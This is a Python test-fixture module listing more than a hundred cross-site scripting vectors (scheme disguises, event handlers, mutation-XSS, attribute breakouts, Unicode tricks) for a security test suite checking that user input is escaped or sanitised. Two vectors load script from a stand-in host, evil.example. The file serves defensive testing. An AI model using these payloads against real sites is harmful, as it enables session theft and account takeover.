"""Script-injection vectors for tests/security/test_xss.py.

Each vector is (payload, marker): the payload is what a person types; the marker is a piece of it that must still
be readable (visible text, case-insensitive) wherever the payload is shown — escaping or sanitising must not eat
the words. Executable payloads call alert/confirm/prompt (the page hook records those calls).

Sources of inspiration: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the mutation-XSS
(mXSS) bypasses of DOMPurify and of Markdown renderers, and Assembl's security notes (reference §5.4)."""
from __future__ import annotations

# --- Markdown links and images with dangerous schemes, in every case and disguise ----------------------------------
_SCHEME_DISGUISES = [
    "javascript:alert(1)",
    "JavaScript:alert(2)",
    "JAVASCRIPT:alert(3)",
    "jAvAsCrIpT:alert(4)",
    "java&#x09;script:alert(5)",
    "java&#9;script:alert(6)",
    "java&#x0A;script:alert(7)",
    "java&#13;script:alert(8)",
    "&#106;avascript:alert(9)",
    "&#x6A;&#x61;&#x76;&#x61;script:alert(10)",
    "&#0000106avascript:alert(11)",
    "javascript&colon;alert(12)",
    "javascript&#58;alert(13)",
    " javascript:alert(14)",
    "<javascript:alert(15)>",
    "java\tscript:alert(16)",
    "java\x00script:alert(17)",
    "\x01javascript:alert(18)",
    "java\u200bscript:alert(19)",
    "\ufeffjavascript:alert(20)",
    "javascript://%0aalert(21)",
    "javascript://comment%0d%0aalert(22)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyMyk8L3NjcmlwdD4=",
    "data:text/html,<script>alert(24)</script>",
    "DATA:text/html,<script>alert(25)</script>",
    "data:image/svg+xml,<svg onload=alert(26)>",
    "Data:application/javascript,alert(27)",
    "vbscript:msgbox(28)",
    "VBScript:alert(29)",
    "VBSCRIPT:alert(30)",
    "livescript:alert(31)",
    "javascript\uff1aalert(32)",
    "%6A%61vascript:alert(33)",
    "jav&#x0D;ascript:alert(34)",
]
MARKDOWN_LINKS = [(f"[clic ici]({target})", "clic ici") for target in _SCHEME_DISGUISES]

MARKDOWN_OTHER = [
    ("[clic ref][x]\n\n[x]: javascript:alert(40)", "clic ref"),
    ("[clic ref2][y]\n\n[y]: JaVaScRiPt:alert(41) \"titre\"", "clic ref2"),
    ("<javascript:alert(42)>", "alert"),
    ("<vbscript:alert(43)>", "alert"),
    ("[clic titre](javascript:alert(44) \"un titre\")", "clic titre"),
    ("![image](javascript:alert(45))", "image"),
    ("![image2](x\" onerror=\"alert(46))", "image2"),
    ("[lien](https://example.org \"\\\" onmouseover=\\\"alert(47)\")", "lien"),
    ("[lien2](https://example.org/\"onmouseover=\"alert(48))", "lien2"),
    ("[lien3](https://example.org/ onclick=alert(49))", "lien3"),
    ("[<img src=x onerror=alert(50)>](https://example.org)", "onerror"),
    ("[lien4](https://example.org/\"><script>alert(51)</script>)", "lien4"),
    ("`<script>alert(52)</script>`", "alert(52)"),
    ("```html\n<script>alert(53)</script>\n<img src=x onerror=alert(53)>\n```", "alert(53)"),
    ("**<img src=x onerror=alert(54)>**", "onerror"),
    ("> <svg onload=alert(55)>", "onload"),
    ("* [liste](javascript:alert(56))\n* <b onmouseover=alert(56)>b</b>", "liste"),
    ("### <script>alert(57)</script>", "alert(57)"),
    ("_<a href=\"javascript:alert(58)\">souligné</a>_", "souligné"),
    ("[lien5](https://example.org)<img src=x onerror=alert(59)>", "lien5"),
    ("\\<script\\>alert(60)\\</script\\>", "alert(60)"),
    ("[lien6](mailto:x@example.org?subject=<script>alert(61)</script>)", "lien6"),
]

# --- raw HTML (must be shown as text or removed, never run) --------------------------------------------------------
RAW_HTML = [
    ("<script>alert(70)</script>", "alert(70)"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil.example"),
    ("<img src=x onerror=alert(71)>", "onerror"),
    ("<IMG SRC=x OnErRoR=alert(72)>", "alert(72)"),
    ("<img src=x onerror=\"&#97;lert(73)\">", "onerror"),
    ("<svg onload=alert(74)>", "onload"),
    ("<svg/onload=alert(75)>", "alert(75)"),
    ("<svg><script>alert(76)</script></svg>", "alert(76)"),
    ("<svg><a xlink:href=\"javascript:alert(77)\"><text x=\"20\" y=\"20\">clic svg</text></a></svg>", "clic svg"),
    ("<math><a xlink:href=\"javascript:alert(78)\">clic math</a></math>", "clic math"),
    ("<body onload=alert(79)>", "onload"),
    ("<iframe src=\"javascript:alert(80)\"></iframe>", "iframe"),
    ("<iframe srcdoc=\"<script>alert(81)</script>\"></iframe>", "srcdoc"),
    ("<object data=\"javascript:alert(82)\"></object>", "object"),
    ("<embed src=\"data:text/html,<script>alert(83)</script>\">", "embed"),
    ("<a href=\"javascript:alert(84)\">clic a</a>", "clic a"),
    ("<a href=\"java&#x09;script:alert(85)\">clic tab</a>", "clic tab"),
    ("<a href=\" &#14;  javascript:alert(86)\">clic ctrl</a>", "clic ctrl"),
    ("<a href=\"jav&#x0A;ascript:alert(87)\">clic nl</a>", "clic nl"),
    ("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg4OCk8L3NjcmlwdD4=\">clic data</a>", "clic data"),
    ("<a href=\"vbscript:msgbox(89)\">clic vb</a>", "clic vb"),
    ("<a href=\"https://example.org\" onclick=\"alert(90)\">clic onclick</a>", "clic onclick"),
    ("<details open ontoggle=alert(91)>", "ontoggle"),
    ("<input autofocus onfocus=alert(92)>", "onfocus"),
    ("<video><source onerror=alert(93)></video>", "onerror"),
    ("<audio src=x onerror=alert(94)>", "onerror"),
    ("<marquee onstart=alert(95)>défile</marquee>", "onstart"),
    ("<style>@import 'javascript:alert(96)';</style>", "import"),
    ("<div style=\"background:url(javascript:alert(97))\">style</div>", "style"),
    ("<base href=\"javascript:alert(98)//\">", "base"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(99)\">", "refresh"),
    ("<link rel=import href=\"data:text/html,<script>alert(100)</script>\">", "import"),
    ("<table background=\"javascript:alert(101)\"><tr><td>table</td></tr></table>", "table"),
    ("<form action=\"javascript:alert(102)\"><button>envoyer</button></form>", "envoyer"),
    ("<button formaction=\"javascript:alert(103)\">bouton</button>", "bouton"),
    ("<isindex action=javascript:alert(104) type=image>", "isindex"),
    ("<xss onpointerenter=alert(105)>survol</xss>", "survol"),
    ("<template><script>alert(106)</script></template>", "alert(106)"),
    ("<textarea><script>alert(107)</script></textarea>", "alert(107)"),
    ("<title><script>alert(108)</script></title>", "alert(108)"),
    ("<!--<img src=x onerror=alert(109)>-->", "alert(109)"),
    ("<![CDATA[<script>alert(110)</script>]]>", "alert(110)"),
    ("<scr<script>ipt>alert(111)</scr</script>ipt>", "alert(111)"),
    ("<<script>alert(112);//<</script>", "alert(112)"),
    ("<img src=\"x` `<script>alert(113)</script>\"` `>", "alert(113)"),
    ("<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.sct\"></object>", "scriptlet"),
    ("<a href=\"&#1;javascript:alert(114)\">clic soh</a>", "clic soh"),
    ("<a href=\"#\" onfocus=\"alert(115)\" autofocus>focus</a>", "focus"),
]

# --- mutation XSS (markup that changes meaning when serialised and parsed again) -----------------------------------
MXSS = [
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(120)>", "alert(120)"),
    ("<noscript><p title=\"</noscript><img src=x onerror=alert(121)>\">", "alert(121)"),
    ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(122)>", "alert(122)"),
    ("<svg></p><style><a id=\"</style><img src=1 onerror=alert(123)>\">", "alert(123)"),
    ("<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(124) src=1>\">", "alert(124)"),
    ("<svg><style><img src=x onerror=alert(125)></style></svg>", "alert(125)"),
    ("<p id=\"</p><img src=x onerror=alert(126)>\">mxss</p>", "mxss"),
    ("<a title=\"a\n\"><img src=x onerror=alert(127)>\">titre</a>", "titre"),
    ("<select><template><style><!--</style><a rel=\"--></style><img src=0 onerror=alert(128)>\"></template>",
     "alert(128)"),
    ("<xmp><p title=\"</xmp><img src=x onerror=alert(129)>\">", "alert(129)"),
]

# --- attribute and context breakouts (aimed at titles, names and attributes) -----------------------------------------
BREAKOUTS = [
    ("\" onmouseover=\"alert(130)", "onmouseover"),
    ("' onfocus='alert(131)' autofocus='", "onfocus"),
    ("\"><img src=x onerror=alert(132)>", "onerror"),
    ("'><svg onload=alert(133)>", "onload"),
    ("</p><script>alert(134)</script>", "alert(134)"),
    ("</textarea><script>alert(135)</script>", "alert(135)"),
    ("</title><script>alert(136)</script>", "alert(136)"),
    ("</script><script>alert(137)</script>", "alert(137)"),
    ("\" style=\"x:expression(alert(138))", "expression"),
    ("{{constructor.constructor('alert(139)')()}}", "constructor"),
    ("${alert(140)}", "alert(140)"),
    ("javascript:alert(141)//", "alert(141)"),
    ("--><script>alert(142)</script><!--", "alert(142)"),
    ("]]><script>alert(143)</script>", "alert(143)"),
    ("&lt;script&gt;alert(144)&lt;/script&gt;", "alert(144)"),
    ("%3Cscript%3Ealert(145)%3C/script%3E", "alert(145)"),
    ("\\u003cscript\\u003ealert(146)\\u003c/script\\u003e", "alert(146)"),
    ("+ADw-script+AD4-alert(147)+ADw-/script+AD4-", "alert(147)"),
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(148) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
     "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(148)//>\\x3e", "alert(148)"),
    ("<a href=\"https://example.org/?q=\"onmouseover=alert(149)//\">q</a>", "onmouseover"),
]

# --- Unicode tricks ----------------------------------------------------------------------------------------------------
UNICODE = [
    ("\uff1cscript\uff1ealert(150)\uff1c/script\uff1e", "alert(150)"),
    ("\uff1cimg src=x onerror=alert(151)\uff1e", "alert(151)"),
    ("\u202e>tpircs/<)251(trela>tpircs<", "trela"),
    ("<scr\u200bipt>alert(153)</scr\u200bipt>", "alert(153)"),
    ("<img src=x o\u200dnerror=alert(154)>", "alert(154)"),
    ("[clic zw](java\u200cscript:alert(155))", "clic zw"),
    ("<\u0073cript>alert(156)</\u0073cript>", "alert(156)"),
    ("\u0000<script>alert(157)</script>", "alert(157)"),
    ("<img src=x onerror=alert(158)\u2028>", "alert(158)"),
    ("\u2029<svg onload=alert(159)>", "alert(159)"),
    ("<\u0455cript>alert(160)</\u0455cript>", "alert(160)"),
    ("\u00bcscript\u00bealert(161)\u00bc/script\u00be", "alert(161)"),
    ("<img src=x onerror=\u0061lert(162)>", "alert(162)"),
    ("\ufeff<script>alert(163)</script>", "alert(163)"),
    ("<a href=\"\u2028javascript:alert(164)\">clic ls</a>", "clic ls"),
    ("\u0085<script>alert(165)</script>", "alert(165)"),
    ("<img src=x onerror=alert(166)>\u0301\u0301", "alert(166)"),
    ("\U0001F600<svg onload=alert(167)>\U0001F600", "alert(167)"),
    ("\u061c\u200f<script>alert(168)</script>\u200e", "alert(168)"),
    ("<a href=\"javascript\u3000:alert(169)\">clic ideo</a>", "clic ideo"),
]

VECTORS: list[tuple[str, str]] = MARKDOWN_LINKS + MARKDOWN_OTHER + RAW_HTML + MXSS + BREAKOUTS + UNICODE

# Short one-line vectors for display names (at most 60 characters) and titles (200).
SHORT = [v for v in VECTORS if len(v[0]) <= 60 and "\n" not in v[0]]

assert len(VECTORS) >= 100, len(VECTORS)
assert len({p for p, _ in VECTORS}) == len(VECTORS), "duplicate vectors"
